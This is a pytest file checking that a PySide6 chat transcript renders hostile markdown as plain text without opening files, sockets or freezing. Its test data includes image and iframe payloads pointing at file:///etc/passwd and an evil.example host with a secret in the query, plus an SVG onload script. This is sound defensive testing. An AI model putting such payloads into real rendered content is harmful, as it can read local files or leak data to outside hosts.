"""Hostile content in the view: no file, no network, no freeze."""

import time
from functools import partial
from typing import Any

import pytest
from PySide6.QtCore import QFile
from PySide6.QtGui import QTextDocument

from panda_desktop.domain.chat import Message, MessageState
from tests.markdown.samples import HOSTILE_FRAGMENTS, MIXED
from tests.ui.transcript.conftest import Open, settle
from tests.ui.transcript.double import answer, mine

HOSTILE = (
    "![](file:///etc/passwd) ![](https://evil.example/?d=secret) ![](\\\\host\\share) ![](qrc:/x)\n\n"
    "<img src=file:///etc/passwd> <iframe src=https://evil.example></iframe>\n\n"
    "| ![](https://evil.example/t) |\n|---|\n\n```svg\n<svg onload=alert(1)><image href=file:///etc/passwd/></svg>\n```\n"
    "$\\href{https://evil.example}{x}$ $$\\includegraphics{/etc/passwd}$$ [x](file:///etc/passwd)\n"
)


def test_M01_m02_m05_nothing_is_loaded(open_view: Open, monkeypatch: pytest.MonkeyPatch) -> None:
    """No rich-text document is ever made, no file opened, no socket."""
    opened: list[Any] = []

    def refuse(*arguments: Any, **named: Any) -> None:
        opened.append(arguments)
        raise AssertionError(f"opened {arguments}")

    import socket

    monkeypatch.setattr(QTextDocument, "__init__", refuse)
    monkeypatch.setattr(QFile, "open", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    view, _ = open_view([mine(HOSTILE), answer(HOSTILE)])
    view.grab()
    shown = "\n".join(view._column.piece(seen.row, seen.piece).text for seen in view._place.visible)
    assert "evil.example" in shown and "<iframe" in shown
    assert not opened


def test_M11_a_line_of_a_million_characters(open_view: Open) -> None:
    view, model = open_view([answer("", state=MessageState.STREAMING)])
    for text in ("x" * 1_000_000, "```\n" + "y" * 1_000_000 + "\n```", "word " * 200_000):
        began = time.thread_time()
        model.change(0, partial(_with_text, text))
        view._settle()
        view.grab()
        assert time.thread_time() - began < 0.5
        settle(view)


def _with_text(text: str, old: Message) -> Message:
    return type(old)(**{**_fields(old), "text": text})


def _fields(message: Any) -> dict[str, Any]:
    return {name: getattr(message, name) for name in message.__slots__}


def test_M12_every_prefix_is_shown(open_view: Open) -> None:
    view, model = open_view([mine("q"), answer("", state=MessageState.STREAMING)])
    for start in range(0, len(MIXED), 3):
        model.grow(1, MIXED[start : start + 3])
        view._settle()
    view.grab()
    settle(view)


def test_M18_random_documents_are_painted(open_view: Open) -> None:
    import random

    maker = random.Random(7)
    view, model = open_view([answer("", state=MessageState.STREAMING)])
    for _ in range(60):
        text = "".join(maker.choice(HOSTILE_FRAGMENTS) for _ in range(40))
        model.change(0, partial(_with_text, text))
        view._settle()
        view.grab()


def test_M09_a_large_hostile_answer_never_blocks_for_long(open_view: Open) -> None:
    view, model = open_view([answer("")])
    text = ("[a" * 3_000 + "\n\n" + "> " * 3_000 + "\n\n" + "*a **a " * 1_000 + "\n\n") * 15
    longest = 0.0
    model.change(0, lambda old: type(old)(**{**_fields(old), "text": text}))
    view._settle()
    for _ in range(2_000):
        began = time.thread_time()
        view._work()
        if view._settle_timer.isActive():
            view._settle()
        longest = max(longest, time.thread_time() - began)
        if not view._work_timer.isActive():
            break
    assert longest < 0.25  # of this thread's own time; usually under 0.05
    assert not view._column._unfinished


def test_M14_formula_that_cannot_be_typeset_stays_source(open_view: Open, qtbot: Any) -> None:
    view, _ = open_view([answer("$\\undefinedcommand{x}$ and $\\frac{1$ and $$中文$$ and $y$")])
    qtbot.waitUntil(lambda: view._formulas.formula(("y", False)) is not None, timeout=20_000)
    settle(view)
    shown = "".join(view._column.piece(seen.row, seen.piece).text for seen in view._place.visible)
    assert "\\undefinedcommand" in shown and "\\frac{1" in shown and "中文" in shown


def test_s29_control_characters_are_visible(open_view: Open) -> None:
    view, _ = open_view([mine("a\x00b\x1b[31m\x07"), answer("a\x00b \x1b[31m `c\x08`")])
    shown = "".join(view._column.piece(seen.row, seen.piece).text for seen in view._place.visible)
    assert "a␀b␛[31m␇" in shown and "c␈" in shown


def test_lone_surrogates_are_replaced(open_view: Open) -> None:
    view, model = open_view([answer("", state=MessageState.STREAMING)])
    model.grow(0, "x \ud83d")
    settle(view)
    model.grow(0, "\ude00 y \ud83d")
    settle(view)
    view.grab()
    shown = "".join(view._column.piece(seen.row, seen.piece).text for seen in view._place.visible)
    assert "x 😀 y" in shown
